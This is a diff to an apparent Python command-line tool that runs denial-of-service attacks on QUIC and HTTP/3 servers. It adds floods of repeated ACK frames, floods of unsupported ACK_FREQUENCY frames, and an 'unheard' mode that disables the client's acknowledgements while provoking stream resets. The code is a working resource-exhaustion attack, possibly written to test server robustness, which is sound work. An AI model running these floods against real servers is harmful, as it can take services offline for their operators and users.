@@ -10,6 +10,9 @@ Attacks:
   stalled        asks for /long.mp4 and gives no window after the first 64 KiB
   narrow         the same with a window of 100 bytes, in which no head fits
   challenges N   sends N PATH_CHALLENGE frames
+  acks N         sends N frames that acknowledge the first packet again
+  frequencies N  sends N ACK_FREQUENCY frames, an extension that the server does not offer
+  unheard N      sends N requests without a path, and acknowledges nothing of their resets for two seconds
   credits N      sends N frames in which streams are blocked, and N that allow the server more of them
   reference      sends a field section that refers to the dynamic table of QPACK
   expand N       sends a field section of N fields, each of one byte
@@ -155,6 +158,21 @@ def shorten(client):
             (b"content-length", b"9")]
     client.http.send_headers(stream, head)
     client.http.send_data(stream, b"hello", end_stream=True)
+
+
+# Of draft-ietf-quic-ack-frequency.
+ACK_FREQUENCY = 0xAF
+
+
+async def unheard(client, count):
+    """Provokes resets without an acknowledgement of anything."""
+    connection = client._quic
+    connection._write_ack_frame = lambda *_, **__: None
+    for _ in range(count):
+        client.request(path=None)
+    client.transmit()
+    await asyncio.sleep(2)
+    del connection._write_ack_frame
 
 
 def prioritize(client):
@@ -322,6 +340,12 @@ async def main():
             await in_rounds(client, number, lambda: shorten(client))
         elif attack == "challenges":
             await flood(client, number, [(QuicFrameType.PATH_CHALLENGE, bytes(8))])
+        elif attack == "acks":
+            await flood(client, number, [(QuicFrameType.ACK, bytes(4))])
+        elif attack == "frequencies":
+            await flood(client, number, [(ACK_FREQUENCY, bytes(4))])
+        elif attack == "unheard":
+            await unheard(client, number)
         elif attack == "credits":
             blocked, allowed = encode_uint_var(128), encode_uint_var(1 << 20)
             await flood(client, number, [(QuicFrameType.STREAMS_BLOCKED_BIDI, blocked),
